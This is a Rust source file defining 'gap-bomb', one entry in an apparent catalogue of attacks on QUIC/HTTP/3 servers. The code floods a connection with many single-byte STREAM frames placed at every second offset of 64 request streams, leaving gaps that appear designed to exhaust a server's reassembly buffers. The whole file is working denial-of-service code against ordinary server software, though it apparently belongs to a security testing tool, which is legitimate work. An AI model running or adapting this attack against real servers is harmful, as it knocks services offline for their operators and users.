//! Streams with a gap before every byte.

use courser_crypto::Space;

use crate::attack::{Plan, Victim};
use crate::http;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "gap-bomb",
    labels: &["A26"],
    summary: "one byte at every second offset of 64 request streams",
    victim: Victim::Server,
    make: || Box::new(gap_bomb()),
};

fn gap_bomb() -> Crowd {
    Crowd::new(2, |connection, progress, now| {
        for _ in 0..BURST {
            let mut frames = Vec::new();
            for _ in 0..FRAMES {
                let id = http::request_stream(progress.streams % STREAMS);
                let offset = 1 + 2 * (progress.streams / STREAMS);
                frames.push(http::stream(id, offset % WINDOW, &[0], false));
                progress.streams += 1;
            }
            connection.send_packet(now, Space::Application, frames);
        }
    })
}

/// Packets of one connection in one turn.
const BURST: usize = 16;

/// STREAM frames in one packet.
const FRAMES: usize = 100;

/// The number of streams, which take turns.
const STREAMS: u64 = 64;

/// The limit of offsets, which is within the flow control limits of every receiver. It is even, so
/// that offsets stay odd.
const WINDOW: u64 = 8192;
